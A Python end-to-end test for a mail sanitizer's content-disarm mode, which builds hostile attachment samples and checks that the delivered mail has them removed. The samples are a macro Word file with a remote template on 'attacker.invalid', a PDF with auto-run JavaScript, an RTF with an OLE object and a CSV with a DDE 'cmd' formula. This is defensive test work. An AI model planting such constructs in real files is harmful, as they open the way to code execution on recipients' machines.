#!/usr/bin/env python3
"""mode = cdr end to end through `mugaika sanitize`: a mail with hostile
attachments (a macro document with an external template and a hyperlink, a
PDF with JavaScript and an automatic action, an RTF with an OLE object, a
CSV with a DDE formula, a PNG with metadata, a type no module handles)
comes out as multipart/mixed: the text with the notice first, then each
attachment rebuilt under its new name, the ones that cannot be rebuilt
removed and listed.  Checked: the delivered structure, names (Japanese,
RFC 2231/2047), that each removed construct is gone from the delivered
bytes, the notice and the report, ISO-2022-JP output, [cdr] formats and
hyperlinks, and that the delivered mail is stable when fed back in (its
files verify or rebuild with nothing left to remove).  Hostile samples are
built here; nothing hostile is stored."""
import argparse
import email
import io
import json
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from email import policy
from email.message import EmailMessage

FAILS = []


def check(cond, what):
    print(("ok   " if cond else "FAIL ") + what)
    if not cond:
        FAILS.append(what)


# --- hostile samples, built here -------------------------------------------

CT_DOCM = ("application/vnd.ms-word.document.macroEnabled.main+xml")
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docm(text="CDR本文テキスト", link=True):
    """A macro-enabled Word document: VBA project, an attached template
    fetched from the network, a hyperlink."""
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
          '<Override PartName="/word/document.xml" ContentType="%s"/>'
          '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
          '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
          '</Types>' % CT_DOCM)
    core = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/">'
            '<dc:creator>秘密の作成者</dc:creator></cp:coreProperties>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
            '</Relationships>')
    link_xml = ('<w:hyperlink r:id="rId9"><w:r><w:t>link</w:t></w:r></w:hyperlink>'
                if link else '')
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           '<w:document xmlns:w="%s" xmlns:r="%s"><w:body>'
           '<w:p><w:r><w:t>%s</w:t></w:r>%s</w:p>'
           '</w:body></w:document>' % (W, R, text, link_xml))
    drels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
             '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/>'
             '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/x" TargetMode="External"/>'
             '</Relationships>')
    settings = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<w:settings xmlns:w="%s" xmlns:r="%s">'
                '<w:attachedTemplate r:id="rId1"/></w:settings>' % (W, R))
    srels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/>'
             '</Relationships>')
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name AutoOpen Shell" * 8
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", ct)
        z.writestr("_rels/.rels", rels)
        z.writestr("word/document.xml", doc)
        z.writestr("word/_rels/document.xml.rels", drels)
        z.writestr("word/settings.xml", settings)
        z.writestr("word/_rels/settings.xml.rels", srels)
        z.writestr("word/vbaProject.bin", vba)
        z.writestr("docProps/core.xml", core)
    return b.getvalue()


def pdf_with_js(text="HELLO CDR PAGE"):
    """One page with text, an /OpenAction running JavaScript and a
    document-level JavaScript name tree."""
    content = ("BT /F1 24 Tf 72 700 Td (%s) Tj ET" % text).encode()
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R "
        b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 7 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content +
        b"\nendstream",
        b"<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>",
        b"<< /S /JavaScript /JS (this.exportDataObject\\({}\\)) >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Author (secret-pdf-author) /Creator (mailer) >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(out.tell())
        out.write(b"%d 0 obj\n" % i + o + b"\nendobj\n")
    x = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for o in offs:
        out.write(b"%010d 00000 n \n" % o)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R /Info 8 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objs) + 1, x))
    return out.getvalue()


def rtf_with_object():
    return (b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 RTF body text\\par"
            b"{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata "
            b"0105000002000000080000005061636b61676500000000000000000000}}"
            b"\\par}")


def csv_with_dde():
    return ("name,value\r\n山田,100\r\n"
            "=cmd|' /C calc'!A0,x\r\n+1+1,@SUM(A1)\r\n").encode("utf-8")


def png_chunk(kind, data):
    c = kind + data
    return struct.pack(">I", len(data)) + c + struct.pack(">I", zlib.crc32(c))


def png_with_text():
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 4 for _ in range(4))
    return (b"\x89PNG\r\n\x1a\n" +
            png_chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0)) +
            png_chunk(b"tEXt", b"Author\x00secret-author-name") +
            png_chunk(b"IDAT", zlib.compress(raw)) +
            png_chunk(b"IEND", b""))


def mail(attachments, subject="資料送付の件①",
         text="お世話になっております。\n資料を添付します。㈱テスト\n"):
    m = EmailMessage()
    m["From"] = "送信者 <sender@example.jp>"
    m["To"] = "staff@example.lg.jp"
    m["Subject"] = subject
    m.set_content(text)
    for name, data, ctype in attachments:
        mt, st = ctype.split("/")
        m.add_attachment(data, maintype=mt, subtype=st, filename=name)
    return m.as_bytes(policy=policy.SMTP)


# --- running it -------------------------------------------------------------

class Runner:
    def __init__(self, cli, source, d):
        self.cli, self.source, self.d = cli, source, d
        self.n = 0

    def conf(self, extra=""):
        self.n += 1
        path = os.path.join(self.d, "c%d.conf" % self.n)
        with open(path, "w") as f:
            f.write("[general]\nmode = cdr\n"
                    "[quarantine]\ndir = %s/q%d\n"
                    "[notice]\ntemplates = %s/conf/templates\n"
                    "[scan]\ndatabase = %s/corpus/signatures\n%s"
                    % (self.d, self.n, self.source, self.source, extra))
        return path

    def run(self, data, extra=""):
        src = os.path.join(self.d, "in.eml")
        out = os.path.join(self.d, "out.eml")
        rep = os.path.join(self.d, "rep.json")
        for p in (out, rep):
            if os.path.exists(p):
                os.unlink(p)
        with open(src, "wb") as f:
            f.write(data)
        r = subprocess.run([self.cli, "sanitize", "-c", self.conf(extra),
                            "-r", rep, src, out],
                           capture_output=True, timeout=300)
        if r.returncode != 0:
            print(r.stderr.decode(errors="replace"))
        outb = open(out, "rb").read() if os.path.exists(out) else b""
        report = json.load(open(rep)) if os.path.exists(rep) else {}
        return r.returncode, outb, report


def files_of(msg):
    """(filename, content type, bytes) of each attachment."""
    res = []
    for p in msg.walk():
        if p.is_multipart() or p.get_filename() is None:
            continue
        res.append((p.get_filename(), p.get_content_type(),
                    p.get_payload(decode=True)))
    return res


def part(report, name):
    for p in report.get("parts", []):
        if p.get("filename") == name:
            return p
    return {}


def removed_ids(p):
    return {r["id"] for r in p.get("removed", [])}


def check_main(rn):
    unknown = b"\x00MGUNKNOWN\x01" + os.urandom(64)
    atts = [
        ("報告書.docm", docm(), "application/vnd.ms-word.document.macroEnabled.12"),
        ("資料.pdf", pdf_with_js(), "application/pdf"),
        ("memo.rtf", rtf_with_object(), "application/rtf"),
        ("一覧.csv", csv_with_dde(), "text/csv"),
        ("写真.png", png_with_text(), "image/png"),
        ("data.bin", unknown, "application/octet-stream"),
    ]
    rc, out, rep = rn.run(mail(atts))
    check(rc == 0, "cdr: exit 0")
    check(rep.get("mode") == "cdr", "cdr: report says mode cdr")
    check(rep.get("disposition") == "sanitized", "cdr: disposition sanitized")
    msg = email.message_from_bytes(out, policy=policy.default)
    check(msg.get_content_type() == "multipart/mixed",
          "cdr: delivered as multipart/mixed")
    check("mode=cdr" in str(msg.get("X-Mugaika", "")), "cdr: X-Mugaika mode=cdr")
    first = next(p for p in msg.walk() if not p.is_multipart())
    text = first.get_content()
    check(first.get_content_type() == "text/plain", "cdr: text part first")
    check("㈱テスト" in text and "資料を添付します" in text,
          "cdr: the mail's text arrives exactly")
    files = {f[0]: f for f in files_of(msg)}
    check(set(files) == {"報告書.docx", "資料.pdf", "memo.rtf", "一覧.csv",
                         "写真.png"},
          "cdr: delivered files and names: %s" % sorted(files))
    raw = out.decode("ascii", errors="replace")
    check("filename*=" in raw or "filename*0*=" in raw,
          "cdr: RFC 2231 filename parameters")
    check('name="=?' in raw, "cdr: RFC 2047 name parameters for older mailers")

    # The macro document: plain docx, no VBA, no template, text kept.
    if "報告書.docx" in files:
        _, ctype, data = files["報告書.docx"]
        z = zipfile.ZipFile(io.BytesIO(data))
        names = z.namelist()
        check(ctype == "application/vnd.openxmlformats-officedocument."
              "wordprocessingml.document", "docm: delivered as a docx type")
        check(not any("vba" in n.lower() for n in names), "docm: VBA gone")
        allxml = b"".join(z.read(n) for n in names)
        check(b"attacker.invalid" not in allxml, "docm: external template gone")
        check(b"macroEnabled" not in allxml, "docm: macro content type gone")
        check("CDR本文テキスト".encode() in z.read("word/document.xml"),
              "docm: the document's text survives")
        p = part(rep, "報告書.docm")
        check(p.get("action") == "rebuilt" and p.get("module") == "ooxml"
              and p.get("output_name") == "報告書.docx",
              "docm: report says rebuilt by ooxml as 報告書.docx")
        check({"vba_macros", "attached_template"} <= removed_ids(p),
              "docm: report lists the removals: %s" % removed_ids(p))
    # The PDF: no JavaScript, no automatic action, page text kept.
    if "資料.pdf" in files:
        data = files["資料.pdf"][2]
        check(b"pwned" not in data and b"exportDataObject" not in data,
              "pdf: the scripts' bytes are gone")
        check(b"secret-pdf-author" not in data,
              "pdf: the document information (author) is gone")
        p = part(rep, "資料.pdf")
        check({"javascript", "auto_actions"} <= removed_ids(p),
              "pdf: report lists javascript and auto_actions: %s"
              % removed_ids(p))
        if shutil.which("pdftotext"):
            t = subprocess.run(["pdftotext", "-", "-"], input=data,
                               capture_output=True, timeout=60).stdout
            check(b"HELLO CDR PAGE" in t, "pdf: the page text survives")
    if "memo.rtf" in files:
        data = files["memo.rtf"][2]
        check(b"\\object" not in data and b"objdata" not in data,
              "rtf: the OLE object is gone")
        check(b"RTF body text" in data, "rtf: the text survives")
    if "一覧.csv" in files:
        data = files["一覧.csv"][2].decode("utf-8-sig")
        check("山田" in data, "csv: Japanese cells survive")
        check(not any(line.startswith(("=", "+", "@"))
                      for line in data.splitlines()),
              "csv: no cell starts a formula")
    if "写真.png" in files:
        data = files["写真.png"][2]
        check(data.startswith(b"\x89PNG") and b"secret-author-name" not in data,
              "png: re-encoded without its text chunk")
    # What could not be rebuilt: removed, listed, kept.
    p = part(rep, "data.bin")
    check(p.get("action") == "removed" and p.get("reason") == "unsupported",
          "unknown type: removed as unsupported")
    check("data.bin" in text and "報告書.docx" in text,
          "notice names the delivered and the removed files")
    check("VBA マクロを削除" in text and "JavaScript を削除" in text,
          "notice says what was removed from each file (ja)")
    check(bool(rep.get("quarantine_id")), "original kept in quarantine")

    # Fed back in: nothing active is left to remove.
    rc2, out2, rep2 = rn.run(out)
    check(rc2 == 0, "again: exit 0")
    left = set()
    for p in rep2.get("parts", []):
        if p.get("path", "").count("/") == 0:
            left |= removed_ids(p) - {"metadata", "formulas"}
    check(not left, "again: nothing active left in the delivered files: %s"
          % sorted(left))
    return out


def check_options(rn):
    d = docm(link=True)
    # hyperlinks = disable removes the link; keep (default) keeps it.
    _, _, rep = rn.run(mail([("a.docm", d, "application/octet-stream")]),
                       "[cdr]\nhyperlinks = disable\n")
    check("hyperlinks" in removed_ids(part(rep, "a.docm")),
          "[cdr] hyperlinks = disable removes links")
    _, out, rep = rn.run(mail([("a.docm", d, "application/octet-stream")]))
    check("hyperlinks" not in removed_ids(part(rep, "a.docm")),
          "[cdr] hyperlinks = keep (default) keeps https links")
    # Per format: links kept in PDFs only.
    _, _, rep = rn.run(mail([("a.docm", d, "application/octet-stream")]),
                       "[cdr]\nhyperlinks = pdf, rtf\n")
    check("hyperlinks" in removed_ids(part(rep, "a.docm")),
          "[cdr] hyperlinks = pdf, rtf: links removed from Word files")
    rc, _, _ = rn.run(mail([]), "[cdr]\nhyperlinks = sometimes\n")
    check(rc == 75, "[cdr] hyperlinks with a bad value: config error")
    # Document properties: stripped by default, kept on request.
    files = {f[0]: f[2] for f in files_of(
        email.message_from_bytes(out, policy=policy.default))}
    z = zipfile.ZipFile(io.BytesIO(files.get("a.docx", b"PK\5\6" + b"\0" * 18)))
    check("docProps/core.xml" not in z.namelist()
          and "metadata" in removed_ids(part(rep, "a.docm")),
          "[cdr] metadata = strip (default) drops document properties")
    _, out, rep = rn.run(mail([("a.docm", d, "application/octet-stream")]),
                         "[cdr]\nmetadata = keep\n")
    files = {f[0]: f[2] for f in files_of(
        email.message_from_bytes(out, policy=policy.default))}
    z = zipfile.ZipFile(io.BytesIO(files.get("a.docx", b"PK\5\6" + b"\0" * 18)))
    check("docProps/core.xml" in z.namelist()
          and "秘密の作成者".encode() in z.read("docProps/core.xml"),
          "[cdr] metadata = keep keeps document properties")
    # A format that is off: removed and kept, with the reason.
    rc, out, rep = rn.run(
        mail([("a.docm", d, "application/octet-stream"),
              ("b.pdf", pdf_with_js(), "application/pdf")]),
        "[cdr]\nformats = pdf\n")
    p = part(rep, "a.docm")
    check(p.get("action") == "removed" and p.get("reason") == "unsupported"
          and "formats" in (p.get("note") or ""),
          "[cdr] formats: a format that is off is removed (%s)"
          % p.get("note"))
    check(part(rep, "b.pdf").get("action") == "rebuilt",
          "[cdr] formats: a format that is on is rebuilt")
    # Bad values are refused with the choices.
    rc, _, _ = rn.run(mail([]), "[cdr]\nformats = pdf, exe\n")
    check(rc == 75, "[cdr] formats with an unknown module: config error")
    # ISO-2022-JP output: the text part in JIS, names still right.
    # (Text with CP932 extensions falls back to UTF-8: [output] charset.)
    rc, out, rep = rn.run(mail([("資料.pdf", pdf_with_js(), "application/pdf")],
                               text="資料を添付します。\n"),
                          "[output]\ncharset = iso-2022-jp\n")
    msg = email.message_from_bytes(out, policy=policy.default)
    first = next(p for p in msg.walk() if not p.is_multipart())
    check(first.get_content_charset() == "iso-2022-jp"
          and "資料を添付します" in first.get_content()
          and first["Content-Transfer-Encoding"] == "7bit",
          "iso-2022-jp: text part in 7-bit JIS")
    check([f[0] for f in files_of(msg)] == ["資料.pdf"],
          "iso-2022-jp: the file's Japanese name")
    # A mail without attachments stays a single text part.
    rc, out, rep = rn.run(mail([]))
    msg = email.message_from_bytes(out, policy=policy.default)
    check(msg.get_content_type() == "text/plain",
          "no attachment: delivered as text/plain")
    # English notice.
    rc, out, rep = rn.run(mail([("a.docm", d, "application/octet-stream")]),
                          "[notice]\nlanguage = en\n")
    msg = email.message_from_bytes(out, policy=policy.default)
    t = next(p for p in msg.walk() if not p.is_multipart()).get_content()
    check("VBA macros removed" in t and "a.docx" in t, "notice in English")


def check_tnef(rn, source):
    """winmail.dat: unwrapped, its attachments delivered as parts."""
    sample = os.path.join(source, "..", "shared", "corpus-external", "tnef",
                          "MAPI_ATTACH_DATA_OBJ.tnef")
    if not os.path.exists(sample):
        print("skip tnef: %s absent" % sample)
        return
    data = open(sample, "rb").read()
    rc, out, rep = rn.run(mail([("winmail.dat", data, "application/ms-tnef")]))
    msg = email.message_from_bytes(out, policy=policy.default)
    names = [f[0] for f in files_of(msg)]
    check(rc == 0 and "winmail.dat" not in names
          and "VIA_Nytt_1402.pdf" in names,
          "tnef: winmail.dat unwrapped, its PDF delivered: %s" % names)
    p = part(rep, "winmail.dat")
    check(p.get("action") == "converted" and p.get("module") == "tnef",
          "tnef: report says converted (tnef)")
    # A mail whose only text is the HTML body inside winmail.dat.
    data = open(os.path.join(os.path.dirname(sample), "body.tnef"), "rb").read()
    m = EmailMessage()
    m["From"] = "a@example.jp"
    m["To"] = "b@example.lg.jp"
    m["Subject"] = "tnef only"
    m.add_attachment(data, maintype="application", subtype="ms-tnef",
                     filename="winmail.dat")
    rc, out, rep = rn.run(m.as_bytes(policy=policy.SMTP))
    msg = email.message_from_bytes(out, policy=policy.default)
    text = next(p for p in msg.walk() if not p.is_multipart()).get_content()
    check(rc == 0 and "Amendment X" in text and "<p" not in text,
          "tnef: the HTML body inside winmail.dat becomes the text")


def check_saved_mail(rn):
    """A mail saved to a file and attached as application/octet-stream
    (a .eml, or a .msg that is RFC 822 text): walked as an attached
    message, so its text is delivered and its own attachments are
    rebuilt and delivered next to the outer ones."""
    inner = mail([("内側.pdf", pdf_with_js("INNER PAGE"), "application/pdf")],
                 subject="保存されたメール",
                 text="内側の本文です。\n")
    for name in ("保存.msg", "saved.eml"):
        rc, out, rep = rn.run(mail([(name, inner,
                                     "application/octet-stream")]))
        msg = email.message_from_bytes(out, policy=policy.default)
        files = {f[0]: f for f in files_of(msg)}
        text = next(p for p in msg.walk()
                    if not p.is_multipart()).get_content()
        check(rc == 0 and "内側の本文です。" in text and
              "保存されたメール" in text,
              "saved mail %s: its text is delivered" % name)
        pdf = files.get("内側.pdf")
        check(pdf is not None,
              "saved mail %s: its PDF is delivered: %s" %
              (name, sorted(files)))
        check(pdf is not None and b"pwned" not in pdf[2] and
              b"exportDataObject" not in pdf[2],
              "saved mail %s: its PDF is rebuilt without the scripts" %
              name)
        check(name not in files,
              "saved mail %s: the file itself is not delivered" % name)
        p = part(rep, name)
        check(p.get("action") == "converted" and
              p.get("detected_type") == "message/rfc822",
              "saved mail %s: reported converted, message/rfc822: %r" %
              (name, {k: p.get(k) for k in ("action", "reason",
                                              "detected_type")}))


def check_outlook_item(rn, source):
    """An Outlook item (.msg) attached: its text delivered, its PDF and
    text files (its own and its embedded item's) rebuilt and delivered
    next to the outer attachments."""
    data = open(os.path.join(source, "corpus", "text",
                             "outlook_item_msg_attachment", "input.eml"),
                "rb").read()
    rc, out, rep = rn.run(data)
    msg = email.message_from_bytes(out, policy=policy.default)
    files = {f[0]: f for f in files_of(msg)}
    text = next(p for p in msg.walk() if not p.is_multipart()).get_content()
    check(rc == 0 and "契約書のドラフトを添付します。①㈱" in text,
          "outlook item: its text is delivered")
    check(set(files) == {"契約書ドラフト.pdf", "件名.txt", "inner.txt"},
          "outlook item: its attachments are delivered rebuilt: %s" %
          sorted(files))
    pdf = files.get("契約書ドラフト.pdf")
    check(pdf is not None and pdf[2].startswith(b"%PDF"),
          "outlook item: the PDF is a PDF")
    p = part(rep, "【ご確認】契約書ドラフト.msg")
    check(p.get("action") == "converted" and "1 object" in
          (p.get("note") or ""),
          "outlook item: converted, the OLE object counted: %r" % p)
    check("元の本文です。" in text,
          "outlook item: the item embedded in it is shown too")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--cli", required=True)
    ap.add_argument("--source", required=True)
    a = ap.parse_args()
    d = tempfile.mkdtemp(prefix="mgcdr-")
    try:
        rn = Runner(a.cli, a.source, d)
        check_main(rn)
        check_options(rn)
        check_tnef(rn, a.source)
        check_saved_mail(rn)
        check_outlook_item(rn, a.source)
    finally:
        shutil.rmtree(d, ignore_errors=True)
    if FAILS:
        print("%d check(s) failed" % len(FAILS))
        return 1
    print("all checks passed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
